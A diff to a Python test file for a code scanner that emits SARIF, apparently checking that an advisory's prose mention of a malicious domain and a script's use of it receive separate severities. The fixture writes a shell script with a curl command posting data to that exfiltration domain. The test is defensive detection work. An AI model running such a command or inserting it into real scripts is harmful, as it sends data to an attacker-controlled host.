@@ -212,7 +212,10 @@ def test_suppressed_findings_are_marked(tree, place, sarif):
 def test_a_severity_by_place_has_a_rule_of_its_own(tree, place):
     """Code scanning takes the severity from the rule: a mention in prose must not show as
     what the rule says of code."""
-    (tree / "README.md").write_text("# Advisory\n\nThe domain models.litellm.cloud was used.\n")
+    prose = ("In March the attackers sent what they had taken to models.litellm.cloud, a name that "
+             "looks like one of the project. Whoever finds it in the logs of a proxy should treat "
+             "every credential of that machine as known to others.\n")
+    (tree / "README.md").write_text("# Advisory\n\n" + "\n".join([prose] * 8))
     (tree / "run.sh").write_text("#!/bin/sh\ncurl https://models.litellm.cloud/ -d x\n")
     out = place / "out.sarif"
     result = sweep.scan("-o", "jsonl", "-o", f"sarif={out}", tree)
@@ -271,8 +274,8 @@ def test_matches_are_left_out_when_the_document_grows(tree, place):
         (tree / f"f{number:02}").write_bytes(
             b"".join(b"KEY" + noise[i * 250:i * 250 + 250] for i in range(2300)))
     out = place / "out.sarif"
-    result = sweep.scan("--no-builtin-rules", "--rules", rules, "--max-matches", "0", "--no-decode",
-                        "-o", f"sarif={out}", tree, records=False)
+    result = sweep.scan("--no-builtin-rules", "--rules", rules, "--max-matches", "4000",
+                        "--no-decode", "-o", f"sarif={out}", tree, records=False)
     assert result.code == EXIT_FINDINGS
     run = sarif_check.check(out)
     whole = ["matches" in r["properties"] for r in run["results"]]
